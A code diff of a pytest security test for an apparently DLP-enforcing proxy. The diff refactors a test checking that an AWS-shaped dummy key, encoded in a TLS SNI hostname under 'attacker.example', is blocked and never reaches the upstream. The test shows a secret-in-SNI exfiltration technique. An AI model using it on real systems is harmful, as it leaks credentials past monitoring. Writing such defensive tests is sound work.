@@ -20,7 +20,7 @@ from pathlib import Path
 import pytest
 
 from tests.helpers import network_events, read_tape
-from tests.security.helpers import DLP_BLOCK, read_head, send_raw
+from tests.security.helpers import DLP_BLOCK, get_through_tunnel, read_head, send_raw
 from tests.security.upstream import LoggingUpstream
 
 KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key
@@ -82,16 +82,8 @@ def test_a_secret_in_the_sni_never_reaches_the_upstream(
     start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path
 ) -> None:
     proxy = start_proxy(policy_file(DLP_BLOCK), upstream_ca=logging_upstream.ca_path)
-    authority = f"localhost:{logging_upstream.port}"
-    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as raw:
-        raw.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
-        assert read_head(raw).startswith(b"HTTP/1.1 200")
-        context = ssl.create_default_context(cafile=str(proxy.ca_cert))
-        context.check_hostname = False
-        context.set_alpn_protocols(["http/1.1"])
-        with context.wrap_socket(raw, server_hostname=f"{KEY.lower()}.attacker.example") as tls:
-            tls.sendall(f"GET /sni HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n".encode())
-            answer = read_head(tls)
+    sni = f"{KEY.lower()}.attacker.example"
+    answer = get_through_tunnel(proxy, logging_upstream, sni, check_hostname=False)
     proxy.flush()
     assert answer.startswith(b"HTTP/1.1 403"), answer
     assert all(_no_key_in(sni.encode()) for sni in logging_upstream.snis()), logging_upstream.snis()
